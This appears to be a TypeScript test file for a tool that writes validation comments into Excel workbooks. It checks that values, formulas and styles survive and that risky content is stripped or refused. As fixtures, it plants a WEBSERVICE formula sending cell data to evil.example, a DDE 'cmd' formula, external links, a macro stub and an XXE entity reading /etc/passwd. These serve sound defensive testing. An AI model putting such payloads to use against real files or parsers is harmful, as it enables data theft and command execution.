import fc from 'fast-check';
import { openXlsx, readXlsx, writeXlsx } from 'hucre/xlsx';
import { describe, expect, it } from 'vitest';
import { packParts, unpackParts } from '../../../lib/formats/annotate/package.ts';
import { annotateWorkbook, type Mark, openSource } from '../../../lib/formats/index.ts';

async function workbook(): Promise<Buffer> {
  const bytes = await writeXlsx({
    sheets: [
      {
        name: 'Patients',
        rows: [
          ['id', 'age', 'size'],
          ['a', 60, 1.5],
          ['b', 170, null],
        ],
        cells: new Map([
          ['1,3', { value: null, formula: 'B2+C2', formulaResult: 61.5, type: 'formula', style: { numFmt: '0.00' } }],
        ]) as never,
      },
      { name: 'Other', rows: [['x'], ['1']] },
    ],
  });
  return Buffer.from(bytes);
}

const mark = (row: number, column: number, more: Partial<Mark> = {}): Mark => ({
  row,
  column,
  level: 'cell',
  text: 'cell: this is not between 0 and 110 (out-of-range)',
  ...more,
});

async function partsOf(bytes: Buffer): Promise<Record<string, string>> {
  return Object.fromEntries([...(await unpackParts(bytes))].map(([name, content]) => [name, content.toString()]));
}

/** The same workbook with parts changed. */
async function changed(bytes: Buffer, change: (parts: Map<string, Buffer>) => void): Promise<Buffer> {
  const parts = await unpackParts(bytes);
  change(parts);
  return packParts(parts);
}

async function cells(bytes: Buffer): Promise<unknown> {
  const { sheets } = await readXlsx(bytes);
  return sheets.map(({ name, rows }) => [name, rows]);
}

describe('An annotated workbook', () => {
  it('says the same as the original, and beside it what is wrong', async () => {
    const original = await workbook();
    const annotated = await annotateWorkbook(original, 'a.xlsx', [
      mark(3, 1),
      mark(3, 1, { text: 'another <&> "fault"\u0000', level: 'error' }),
      mark(3, 2, { level: 'warning', text: 'empty' }),
    ]);
    expect(await cells(annotated)).toEqual(await cells(original));
    const { sheets } = await openXlsx(annotated, { readStyles: true });
    const cell = sheets[0]!.cells!.get('2,1')!;
    expect(cell.comment?.text).toMatch(/out-of-range/);
    expect(cell.comment?.text).toMatch(/another <&> "fault"/);
    expect(JSON.stringify(cell.style)).toMatch(/FFB3B3/i); // the worst of two
    expect(sheets[0]!.cells!.get('2,2')!.comment?.text).toBe('empty');
    const parts = await partsOf(annotated);
    expect(parts['xl/worksheets/sheet1.xml']).toMatch(/<legacyDrawing /);
    expect(Object.keys(parts).filter((name) => name.endsWith('.vml'))).toHaveLength(1);
  });

  it('keeps formulas and formats', async () => {
    const annotated = await partsOf(await annotateWorkbook(await workbook(), 'a.xlsx', [mark(2, 3)]));
    const [cell] = /<c r="D2"[^>]*>.*?<\/c>/.exec(annotated['xl/worksheets/sheet1.xml']!)!;
    expect(cell).toContain('<f>B2+C2</f>');
    const style = Number(/s="(\d+)"/.exec(cell)![1]);
    const formats = /<cellXfs[^>]*>(.*?)<\/cellXfs>/s.exec(annotated['xl/styles.xml']!)![1]!.match(/<xf\b/g)!.length;
    expect(style).toBe(formats - 1);
    const xf = [...annotated['xl/styles.xml']!.matchAll(/<xf\b[^>]*>/g)].at(-1)![0];
    expect(xf).toMatch(/applyFill="1"/);
  });

  it('is the same bytes for the same problems', async () => {
    const original = await workbook();
    const [a, b] = await Promise.all([1, 2].map(() => annotateWorkbook(original, 'a.xlsx', [mark(3, 1)])));
    expect(a!.equals(b!)).toBe(true);
  });

  it('adds to comments that are there, whoever wrote them', async () => {
    const once = await annotateWorkbook(await workbook(), 'a.xlsx', [mark(3, 1, { text: 'first' })]);
    const twice = await annotateWorkbook(once, 'a.xlsx', [
      mark(3, 1, { text: 'second' }),
      mark(2, 0, { text: 'third' }),
    ]);
    const { sheets } = await openXlsx(twice);
    expect(sheets[0]!.cells!.get('2,1')!.comment?.text).toMatch(/first[\s\S]*second/);
    expect(sheets[0]!.cells!.get('1,0')!.comment?.text).toBe('third');
    const parts = await partsOf(twice);
    expect(Object.keys(parts).filter((name) => /comments\d+\.xml$/.test(name))).toHaveLength(1);
  });

  it('marks the sheet that is named, and no sheet that is not there', async () => {
    const annotated = await annotateWorkbook(await workbook(), 'a.xlsx', [
      mark(2, 0, { sheet: 'Other', text: 'here' }),
      mark(2, 0, { sheet: 'Nowhere', text: 'nowhere' }),
    ]);
    const text = JSON.stringify(await partsOf(annotated));
    expect(text).toContain('here');
    expect(text).not.toContain('nowhere');
    const { sheets } = await openXlsx(annotated);
    expect(sheets[1]!.cells!.get('1,0')!.comment?.text).toBe('here');
  });

  it('drops macros, links to other files and formulas that reach out, and keeps their values', async () => {
    const armed = await changed(await workbook(), (parts) => {
      parts.set('xl/vbaProject.bin', Buffer.from('macro'));
      parts.set('xl/externalLinks/externalLink1.xml', Buffer.from('<externalLink/>'));
      parts.set('xl/externalLinks/_rels/externalLink1.xml.rels', Buffer.from('<Relationships/>'));
      const edit = (part: string, from: RegExp, to: string) => {
        const text = parts.get(part)!.toString();
        expect(text).toMatch(from);
        parts.set(part, Buffer.from(text.replace(from, to)));
      };
      edit(
        '[Content_Types].xml',
        /<\/Types>/,
        '<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="x"/></Types>',
      );
      edit(
        '[Content_Types].xml',
        /application\/vnd\.openxmlformats-officedocument\.spreadsheetml\.sheet\.main\+xml/,
        'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
      );
      edit(
        'xl/_rels/workbook.xml.rels',
        /<\/Relationships>/,
        '<Relationship Id="rIdM" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rIdL" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
      );
      edit(
        'xl/workbook.xml',
        /<\/workbook>/,
        '<externalReferences><externalReference r:id="rIdL"/></externalReferences></workbook>',
      );
      edit('xl/worksheets/sheet1.xml', /<f>B2\+C2<\/f>/, '<f>WEBSERVICE("http://evil.example/"&amp;B2)</f>');
    });
    const annotated = await annotateWorkbook(armed, 'a.xlsx', [mark(3, 1)]);
    const parts = await partsOf(annotated);
    const all = JSON.stringify(parts);
    for (const word of [
      'vbaProject',
      'externalLink',
      'externalReference',
      'WEBSERVICE',
      'macroEnabled',
      'evil.example',
    ])
      expect(all).not.toContain(word);
    expect(await cells(annotated)).toEqual(await cells(await workbook())); // the value saved with the formula
  });

  it.each([
    ['[1]Sheet1!A1', false],
    ["'C:\\\\[other.xlsx]Sheet1'!A1", false],
    ['WEBSERVICE(&quot;http://x&quot;)', false],
    ["cmd|' /C calc'!A0", false],
    ['HYPERLINK(&quot;http://evil.example&quot;,&quot;here&quot;)', false],
    ['B2&amp;&quot;|&quot;&amp;C2', true],
    ['SUM(Table1[2020])', true],
    ['Table1[[#This Row],[x]]+1', true],
    ['HYPERLINK(&quot;#Other!A1&quot;)', true],
    ['IF(B2&gt;1,&quot;[1]&quot;,0)', true],
  ])('keeps a formula unless it reaches out: %s', async (formula, kept) => {
    const with_ = await changed(await workbook(), (parts) => {
      const part = 'xl/worksheets/sheet1.xml';
      parts.set(
        part,
        Buffer.from(
          parts
            .get(part)!
            .toString()
            .replace('<f>B2+C2</f>', () => `<f>${formula}</f>`),
        ),
      );
    });
    const sheet = (await partsOf(await annotateWorkbook(with_, 'a.xlsx', [mark(3, 1)])))['xl/worksheets/sheet1.xml']!;
    expect(sheet.includes(`<f>${formula}</f>`)).toBe(kept);
    expect(sheet).toMatch(/<c r="D2"[^>]*><f>|<c r="D2"[^>]*><v>61.5/);
  });

  it('refuses a workbook with entities of its own, and what is no workbook', async () => {
    const entities = await changed(await workbook(), (parts) => {
      const text = parts.get('xl/worksheets/sheet1.xml')!.toString();
      parts.set(
        'xl/worksheets/sheet1.xml',
        Buffer.from(text.replace(/<worksheet/, '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet')),
      );
    });
    await expect(annotateWorkbook(entities, 'a.xlsx', [])).rejects.toMatchObject({ code: 'undecodable' });
    await expect(annotateWorkbook(Buffer.from('PK\u0003\u0004'), 'a.xlsx', [])).rejects.toMatchObject({
      code: 'truncated',
    });
  });

  it('is read as the original is, wherever it is marked', async () => {
    const original = await workbook();
    const rowsOf = async (bytes: Buffer) => {
      const source = await openSource(
        (async function* () {
          yield bytes;
        })(),
        { file: 'a.xlsx' },
      );
      const rows: unknown[] = [];
      for await (const batch of source.rows) rows.push(...batch);
      return [source.columns, rows];
    };
    const expected = await rowsOf(original);
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc.record({
            row: fc.integer({ min: 1, max: 12 }),
            column: fc.integer({ min: 0, max: 40 }),
            text: fc.string({ unit: 'binary', maxLength: 50 }),
            level: fc.constantFrom('file', 'error', 'cell', 'warning'),
          }),
          { maxLength: 12 },
        ),
        async (marks) => {
          expect(await rowsOf(await annotateWorkbook(original, 'a.xlsx', marks as Mark[]))).toEqual(expected);
        },
      ),
      { numRuns: 30 },
    );
  });
});
